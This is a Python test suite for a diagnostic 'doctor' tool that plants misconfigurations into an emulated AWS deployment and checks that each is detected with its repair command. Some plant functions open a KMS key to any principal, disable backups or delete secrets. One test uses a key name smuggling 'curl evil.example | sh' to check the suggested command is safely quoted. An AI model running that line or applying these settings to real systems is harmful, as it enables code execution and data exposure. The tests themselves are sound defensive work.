"""Faults planted one by one in a real deployment on MiniStack: the doctor finds each and names its mend."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace

from cli import operator
from cli.doctor import encryption, functions, issuer, people, providers, queues, tables, watching
from grantkeeper.api_key_format import new_api_key
from grantkeeper.model import ApiKey, Client, ShardMark
from grantkeeper.services.manage_api_keys import CLIENT_SCOPES

from .conftest import register


def forget_retention(ward):
    ward.aws("logs").delete_retention_policy(logGroupName=ward.physical("SessionLogs"))


def tell_nobody_of_an_alarm(ward):
    cloudwatch, name = ward.aws("cloudwatch"), ward.physical("RescueAlarm")
    (alarm,) = cloudwatch.describe_alarms(AlarmNames=[name])["MetricAlarms"]
    kept = ("AlarmName", "Namespace", "MetricName", "Dimensions", "Statistic", "Period", "EvaluationPeriods",
            "ComparisonOperator", "Threshold")  # fmt: skip
    cloudwatch.put_metric_alarm(**{part: alarm[part] for part in kept}, AlarmActions=[])


def keep_a_secret_nobody_names(ward):
    ward.wiring.secrets.put(f"{ward.outputs['ParameterPrefix']}/providers/google/0", "old")


def switch_a_provider_off(ward):
    event = operator.event("provider.disabled")
    ward.wiring.provider_items.put("spotify", record=None, registrations=None, disabled=True, audit=event)


def take_the_last_admins_role(ward):
    user = ward.wiring.users.get("usr_admin")
    changed = replace(user, role="user")
    assert ward.wiring.users.update(changed, expected_version=user.version, audit=operator.event("user.role_changed"))


def make_a_key_for_everything(ward):
    store_key(ward, CLIENT_SCOPES, days=90)


def let_a_key_end(ward):
    store_key(ward, ("connections:read",), days=3)


def store_key(ward, scopes, *, days):
    text = new_api_key()
    key = ApiKey(text.key_id, text.secret_hash, scopes, ward.now, ward.now + days * 86_400, client_id="app", name="k")
    ward.wiring.api_keys.put(key, audit=operator.event("api_key.created"))


def lend_the_vault(ward):
    key, somebody = ward.outputs["VaultKeyArn"], "arn:aws:iam::000000000000:role/somebody"
    ward.aws("kms").create_grant(KeyId=key, GranteePrincipal=somebody, Operations=["Decrypt"])


def disable_the_schedule(ward):
    scheduler, name = ward.aws("scheduler"), ward.physical("SweepSchedule")
    found = scheduler.get_schedule(Name=name)
    kept = ("Name", "ScheduleExpression", "FlexibleTimeWindow", "Target")
    scheduler.update_schedule(**{part: found[part] for part in kept}, State="DISABLED")


def end_backups(ward):
    ward.aws("dynamodb").update_continuous_backups(
        TableName=ward.outputs["GrantsTableName"],
        PointInTimeRecoverySpecification={"PointInTimeRecoveryEnabled": False},
    )


def send_dead_letters_nowhere(ward):
    ward.aws("sqs").set_queue_attributes(QueueUrl=ward.outputs["WorkQueueUrl"], Attributes={"RedrivePolicy": ""})


def show_messages_too_soon(ward):
    ward.aws("sqs").set_queue_attributes(QueueUrl=ward.outputs["RescueQueueUrl"], Attributes={"VisibilityTimeout": "5"})


def leave_an_answer_dead(ward):
    ward.aws("sqs").send_message(QueueUrl=ward.outputs["RescueDeadLetterQueueUrl"], MessageBody="{}")


def unplug_the_projector(ward):
    uuid = ward.physical("ProjectorFunctionAudit")
    ward.aws("lambda").update_event_source_mapping(UUID=uuid, Enabled=False)


def edit_a_functions_issuer(ward):
    client, name = ward.aws("lambda"), ward.outputs["SessionFunctionName"]
    variables = client.get_function_configuration(FunctionName=name)["Environment"]["Variables"]
    changed = {"Variables": {**variables, "ISSUER": "https://elsewhere.example"}}
    client.update_function_configuration(FunctionName=name, Environment=changed)


def open_the_vault(ward):
    kms, key = ward.aws("kms"), ward.outputs["VaultKeyArn"]
    policy = json.loads(kms.get_key_policy(KeyId=key, PolicyName="default")["Policy"])
    anybody = {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "kms:Decrypt", "Resource": "*"}
    policy["Statement"].append(anybody)
    kms.put_key_policy(KeyId=key, PolicyName="default", Policy=json.dumps(policy))


def take_the_vaults_denials(ward):
    kms, key = ward.aws("kms"), ward.outputs["VaultKeyArn"]
    policy = json.loads(kms.get_key_policy(KeyId=key, PolicyName="default")["Policy"])
    policy["Statement"] = [each for each in policy["Statement"] if each["Effect"] == "Allow"]
    kms.put_key_policy(KeyId=key, PolicyName="default", Policy=json.dumps(policy))


def disable_the_table_key(ward):
    ward.aws("kms").disable_key(KeyId=ward.outputs["TableKeyArn"])


def lose_a_providers_secret(ward):
    ward.aws("ssm").delete_parameter(Name=f"{ward.outputs['ParameterPrefix']}/providers/google/1")


def store_a_secret_in_the_open(ward):
    name = f"{ward.outputs['ParameterPrefix']}/providers/spotify/1"
    ward.aws("ssm").delete_parameter(Name=name)
    ward.aws("ssm").put_parameter(Name=name, Value="open", Type="String")


def break_a_providers_record(ward):
    event = operator.event("provider.configured")
    record = {"token_endpoint": "http://plain.example/token"}
    ward.wiring.provider_items.put("github", record=record, registrations=None, disabled=None, audit=event)


def have_the_provider_refuse_us(ward):
    ward.wiring.breakers.record_refusal("google", error="invalid_client", now=ward.now)


def lose_the_signing_keys(ward):
    key = {"pk": {"S": "SIGNER"}, "sk": {"S": "SIGNER"}}
    table = ward.outputs["GrantsTableName"]
    assert "Item" in ward.aws("dynamodb").get_item(TableName=table, Key=key)
    ward.aws("dynamodb").delete_item(TableName=table, Key=key)


def send_users_over_plain_http(ward):
    client = Client("careless", "Careless", ("http://app.example.com/cb",), ward.now)
    ward.wiring.clients.put(client, audit=operator.event("client.registered"))


def answer_under_another_name(ward):
    ward.told["/.well-known/openid-configuration"]["issuer"] = "https://old.example.com"


def answer_nothing(ward):
    del ward.told["/.well-known/openid-configuration"]


def read_too_few_shards(ward):
    mark = ward.wiring.shard_mark.mark()
    assert ward.wiring.shard_mark.replace(ShardMark(high_water=4), expected=mark)


def ring_an_alarm(ward):
    name = ward.physical("TamperingAlarm")
    ward.aws("cloudwatch").set_alarm_state(AlarmName=name, StateValue="ALARM", StateReason="planted")


FAULTS = [
    (disable_the_schedule, watching, "schedule.enabled", "aws scheduler update-schedule"),
    (ring_an_alarm, watching, "alarms.state", "docs/operations.md"),
    (end_backups, tables, "tables.recovery", "aws dynamodb update-continuous-backups"),
    (send_dead_letters_nowhere, queues, "queues.redrive", "RedrivePolicy"),
    (show_messages_too_soon, queues, "queues.visibility", '"VisibilityTimeout": "130"'),
    (leave_an_answer_dead, queues, "queues.dead_letters", "queues redrive rescue"),
    (unplug_the_projector, functions, "functions.event_sources", "aws lambda update-event-source-mapping"),
    (edit_a_functions_issuer, functions, "functions.environment", "aws lambda update-function-configuration"),
    (read_too_few_shards, functions, "functions.due_shards", "aws lambda invoke"),
    (open_the_vault, encryption, "keys.policy", "aws kms put-key-policy"),
    (take_the_vaults_denials, encryption, "keys.policy", "NotWithoutPurpose"),
    (disable_the_table_key, encryption, "keys.state", "aws kms enable-key"),
    (lose_the_signing_keys, encryption, "keys.signing", "init"),
    (lose_a_providers_secret, providers, "providers.credentials", "providers configure google --client-id our-id-at-"),
    (
        store_a_secret_in_the_open,
        providers,
        "providers.credentials",
        "providers configure spotify --client-id our-id-at-",
    ),
    (break_a_providers_record, providers, "providers.record", "providers configure github --record"),
    (have_the_provider_refuse_us, providers, "providers.health", "providers configure google"),
    (send_users_over_plain_http, people, "clients.sound", "clients register"),
    (answer_under_another_name, issuer, "issuer.name", "sam deploy"),
    (answer_nothing, issuer, "issuer.reachable", "curl"),
]
MENDED = ("schedule.enabled", "functions.event_sources", "tables.indexes")
HIDDEN = {"issuer.name"}  # who answers nothing has no name


def test_each_of_twenty_planted_faults_is_found_with_its_mend(ward):
    """
    A healthy deployment has nothing to mend; then one fault after the other is planted, each is failing at once with
    the command that mends it, and nothing else is; in the end the whole examination has them all.
    """
    findings = ward.look()
    assert [each for each in findings if each.status in ("failing", "warning")] == []
    looked_at = {each.check.partition(".")[0] for each in findings}
    assert looked_at >= {"stack", "issuer", "tables", "keys", "functions", "queues", "schedule", "alarms", "providers"}

    for plant, family, check, mend in FAULTS:
        before = failing(ward.look(family.FAMILY))

        plant(ward)

        found = failing(ward.look(family.FAMILY)) - before
        assert {each.check for each in found} == {check}, (plant.__name__, found)
        assert any(mend in each.mend for each in found), (plant.__name__, found)

    assert {each.check for each in failing(ward.look())} == {check for _, _, check, _ in FAULTS} - HIDDEN


def change_table(output, **changes):
    def change(ward):
        ward.aws("dynamodb").update_table(TableName=ward.outputs[output], **changes)

    return change


def encrypt_under_another_key(ward):
    other = ward.aws("kms").create_key()["KeyMetadata"]["Arn"]
    change_table("AuditTableName", SSESpecification={"Enabled": True, "SSEType": "KMS", "KMSMasterKeyId": other})(ward)


def lose_a_table(ward):
    change_table("AuditTableName", DeletionProtectionEnabled=False)(ward)
    ward.aws("dynamodb").delete_table(TableName=ward.outputs["AuditTableName"])


def delete_an_event_source(ward):
    ward.aws("lambda").delete_event_source_mapping(UUID=ward.physical("RefreshWorkerFunctionWork"))


def unplug_the_projectors_grants(ward):
    ward.aws("lambda").delete_event_source_mapping(UUID=ward.physical("ProjectorFunctionGrants"))


def encrypt_a_queue_for_anybody(ward):
    attributes = {"KmsMasterKeyId": "alias/aws/sqs"}
    ward.aws("sqs").set_queue_attributes(QueueUrl=ward.outputs["DeadLetterQueueUrl"], Attributes=attributes)


def lose_a_log_group(ward):
    ward.aws("logs").delete_log_group(logGroupName=ward.physical("RefreshLogs"))


def delete_an_alarm(ward):
    ward.aws("cloudwatch").delete_alarms(AlarmNames=[ward.physical("OldestDueAlarm")])


def call_another_function(ward):
    scheduler, name = ward.aws("scheduler"), ward.physical("SweepSchedule")
    found = scheduler.get_schedule(Name=name)
    other = {**found["Target"], "Arn": found["Target"]["Arn"].replace("Sweeper", "Discovery")}
    kept = ("Name", "ScheduleExpression", "FlexibleTimeWindow")
    scheduler.update_schedule(**{part: found[part] for part in kept}, Target=other, State="ENABLED")


def let_a_branch_key_go(ward):
    key = {"pk": {"S": "BRANCH#3#newest"}, "sk": {"S": "BRANCH"}}
    ward.aws("dynamodb").delete_item(TableName=ward.outputs["GrantsTableName"], Key=key)


def schedule_the_vaults_deletion(ward):
    ward.aws("kms").schedule_key_deletion(KeyId=ward.outputs["VaultKeyArn"], PendingWindowInDays=7)


def forget_a_clients_secret(ward):
    client = Client("locked", "Locked", ("https://x.example/cb",), ward.now, "client_secret_basic")
    ward.wiring.clients.put(client, audit=operator.event("client.registered"))


def move_the_console(ward):
    client = replace(ward.wiring.clients.get("console"), redirect_uris=("https://old.example/console",))
    ward.wiring.clients.put(client, audit=operator.event("client.changed"))


OFF = {"StreamEnabled": False}
TAKEN = [
    (change_table("AuditTableName", StreamSpecification=OFF), tables, "tables.stream", "--stream-specification"),
    (
        change_table("GrantsTableName", DeletionProtectionEnabled=False),
        tables,
        "tables.deletion_protection",
        "--deletion",
    ),
    (encrypt_under_another_key, tables, "tables.encryption", "KMSMasterKeyId=arn:aws:kms"),
    (delete_an_event_source, functions, "functions.event_sources", "aws lambda create-event-source-mapping"),
    (encrypt_a_queue_for_anybody, queues, "queues.encryption", "KmsMasterKeyId=arn:aws:kms"),
    (call_another_function, watching, "schedule.enabled", "SweeperFunction"),
    (lose_a_log_group, watching, "logs.retention", "aws logs create-log-group"),
    (delete_an_alarm, watching, "alarms.exist", "sam deploy"),
    (let_a_branch_key_go, encryption, "keys.branch", "init"),
    (schedule_the_vaults_deletion, encryption, "keys.state", "aws kms cancel-key-deletion"),
    (forget_a_clients_secret, people, "clients.sound", "clients disable locked"),
    (move_the_console, people, "clients.console", "init"),
    (
        change_table("GrantsTableName", GlobalSecondaryIndexUpdates=[{"Delete": {"IndexName": "due"}}]),
        tables,
        "tables.indexes",
        '"NonKeyAttributes": ["provider", "generation"]',
    ),
    (lose_a_table, tables, "tables.exists", "aws dynamodb restore-table-to-point-in-time"),
]


def test_what_a_hand_took_away_is_missed(ward):
    """Half-deleted deployments, one piece after the other; the rest of a family is looked at all the same."""
    for plant, family, check, mend in TAKEN:
        before = failing(ward.look(family.FAMILY))

        plant(ward)

        found = [each for each in failing(ward.look(family.FAMILY)) - before if each.check == check]
        assert found, check
        assert any(mend in each.mend for each in found), found


def test_what_was_taken_away_is_put_back_by_the_command_as_it_is_said(ward):
    """Word by word, against the emulator: its commands are the API's own."""
    for plant, family in (
        (disable_the_schedule, watching),
        (delete_an_event_source, functions),
        (unplug_the_projectors_grants, functions),
        (change_table("GrantsTableName", GlobalSecondaryIndexUpdates=[{"Delete": {"IndexName": "due"}}]), tables),
    ):
        plant(ward)
        found = [each for each in failing(ward.look(family.FAMILY)) if each.check in MENDED]
        assert found, plant

        for each in found:
            ward.type(each.mend)

        assert failing(ward.look(family.FAMILY)) == set()


def failing(findings):
    return {each for each in findings if each.status == "failing"}


def forget_expiry(ward):
    ward.aws("dynamodb").update_time_to_live(
        TableName=ward.outputs["GrantsTableName"], TimeToLiveSpecification={"Enabled": False, "AttributeName": "ttl"}
    )


def back_up_sessions(ward):
    ward.aws("dynamodb").update_continuous_backups(
        TableName=ward.outputs["RequestsTableName"],
        PointInTimeRecoverySpecification={"PointInTimeRecoveryEnabled": True},
    )


def leave_work_dead(ward):
    ward.aws("sqs").send_message(QueueUrl=ward.outputs["DeadLetterQueueUrl"], MessageBody="{}")


def keep_keys_as_they_are(ward):
    ward.aws("kms").disable_key_rotation(KeyId=ward.outputs["VaultKeyArn"])


def leave_a_provider_alone(ward):
    for _ in range(6):
        ward.wiring.breakers.record_failure("google", now=ward.now)


def keep_a_key_nobody_uses(ward):
    text, long_ago = new_api_key(), ward.now - 60 * 86_400
    key = ApiKey(text.key_id, text.secret_hash, ("metrics:read",), long_ago, ward.now + 90 * 86_400, name="old")
    ward.wiring.api_keys.put(key, audit=operator.event("api_key.created"))


def ask_for_a_token_in_public(ward):
    client = Client("spa", "Spa", ("https://x.example/cb",), ward.now, scopes=("openid", "connections:token"))
    ward.wiring.clients.put(client, audit=operator.event("client.registered"))


def add_a_record_and_forget_its_credentials(ward):
    event = operator.event("provider.configured")
    record = {"display_name": "Our GitHub"}
    ward.wiring.provider_items.put("github", record=record, registrations=None, disabled=None, audit=event)


def forget_a_record_and_keep_its_credentials(ward):
    register(ward, "acme", "our-id-at-acme")


def publish_too_few_keys(ward):
    ward.told["/jwks"] = {"keys": []}


WARNINGS = [
    (
        add_a_record_and_forget_its_credentials,
        providers,
        "providers.credentials",
        "providers configure github --client-id",
    ),
    (forget_a_record_and_keep_its_credentials, providers, "providers.credentials", "providers configure acme --issuer"),
    (forget_expiry, tables, "tables.ttl", "aws dynamodb update-time-to-live"),
    (back_up_sessions, tables, "tables.recovery", "PointInTimeRecoveryEnabled=false"),
    (leave_work_dead, queues, "queues.dead_letters", "queues redrive work"),
    (keep_keys_as_they_are, encryption, "keys.rotation", "aws kms enable-key-rotation"),
    (leave_a_provider_alone, providers, "providers.health", "providers check google"),
    (keep_a_key_nobody_uses, people, "api_keys.unused", "api-keys revoke"),
    (ask_for_a_token_in_public, people, "clients.scopes", "clients disable spa"),
    (publish_too_few_keys, issuer, "issuer.keys", "five minutes"),
    (forget_retention, watching, "logs.retention", "aws logs put-retention-policy"),
    (tell_nobody_of_an_alarm, watching, "alarms.actions", "AlarmTopicArn="),
    (keep_a_secret_nobody_names, providers, "providers.orphans", "aws ssm delete-parameter"),
    (switch_a_provider_off, providers, "providers.health", "providers configure spotify --enable"),
    (take_the_last_admins_role, people, "people.admins", "users role <sub> admin"),
    (make_a_key_for_everything, people, "api_keys.scopes", "api-keys create --client app"),
    (let_a_key_end, people, "api_keys.expiry", "api-keys rotate"),
    (lend_the_vault, encryption, "keys.grants", "aws kms revoke-grant"),
]


def test_what_somebody_should_look_at_is_a_warning(ward):
    """Nothing fails, and the next step is said."""
    for plant, family, check, mend in WARNINGS:
        plant(ward)

        found = [each for each in ward.look(family.FAMILY) if each.check == check and each.status == "warning"]
        assert any(mend in each.mend for each in found), (plant.__name__, found)

    assert failing(ward.look()) == set()


def test_what_somebody_called_his_key_is_a_word_in_the_command(ward):
    """Commands are there to be pasted, and names are anybody's."""
    name = "k'; curl evil.example | sh; '$(id)\n`id`"
    text = new_api_key()
    key = ApiKey(
        text.key_id, text.secret_hash, CLIENT_SCOPES, ward.now, ward.now + 90 * 86_400, client_id="app", name=name
    )
    ward.wiring.api_keys.put(key, audit=operator.event("api_key.created"))

    (mend,) = [each.mend for each in ward.look(people.FAMILY) if each.check == "api_keys.scopes"]

    words = shlex.split(mend)
    assert words[words.index("--name") + 1] == name
